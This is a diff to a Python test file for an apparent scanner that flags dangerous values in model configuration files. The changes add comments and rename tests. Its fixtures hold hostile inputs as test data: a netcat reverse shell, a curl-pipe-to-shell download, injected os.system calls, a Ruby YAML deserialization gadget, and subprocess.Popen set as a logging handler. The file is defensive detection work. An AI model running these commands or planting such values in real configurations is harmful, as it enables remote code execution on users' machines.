@@ -55,6 +55,7 @@ def list_references(reading):
         ("a.json", '{"weights_only": false}', ("switch", "weights_only=false")),
         ("a.yaml", "trust_remote_code: yes\n", ("switch", "trust_remote_code=true")),
         ("a.json", '{"hidden_size": -2}', ("size", "hidden_size")),
+        # More digits than a float can express, and more than Python converts.
         ("a.json", json.dumps({"hidden_size": "9" * 350}), ("size", "hidden_size")),
         ("a.json", json.dumps({"hidden_size": "9" * 5000}), ("size", "hidden_size")),
         ("a.yaml", "a: !<tag:ruby.yaml.org,2002:object:Gem.Installer> x\n", ("ruby", "Gem.Installer")),
@@ -63,6 +64,7 @@ def list_references(reading):
             "{\"a\": \"${__import__('os').system('id')}\"}",
             ("evaluated-code", "a {__import__('os').system('id')}"),
         ),
+        # The value "curl $x" is a mark in the raw text, without which a document is not searched for commands.
         ("a.yaml", 'a: curl $x\nrun: "nc\\t-e\\t/bin/sh\\th\\t1"\n', ("reverse-shell", "nc -e /bin/sh h 1")),
         ("a.yaml", 'a: curl $x\nrun: "curl${IFS}http://e/x|sh"\n', ("download-and-run", "http://e/x")),
         (
@@ -95,7 +97,7 @@ def test_names_that_a_configuration_gives_under_loader_keys_are_mentioned(read_b
         ("a.yaml", "a: !!python/tuple [1, 2]\nb: !!float 1\nc: !custom x\n"),
     ],
 )
-def test_ordinary_values_give_no_mentions(read_bytes, path, text):
+def test_ordinary_configuration_values_give_no_mentions(read_bytes, path, text):
     assert list_mentions(read_bytes(text.encode(), path)) == []
 
 
@@ -181,7 +183,7 @@ def test_configuration_of_any_bytes_is_read_without_error(read_bytes, data, path
     read_bytes(b'{"_target_": "' + data, path, Limits())
 
 
-def test_class_of_logging_handler_is_reported(read_bytes):
+def test_class_of_a_logging_handler_is_mentioned_unless_it_belongs_to_the_logging_module(read_bytes):
     text = b"version: 1\nhandlers:\n  h:\n    class: subprocess.Popen\n    args: [id]\n  ok:\n    class: logging.StreamHandler\n"
     assert [name for _, name in list_mentions(read_bytes(text, "logging.yaml"))] == ["subprocess.Popen"]
 
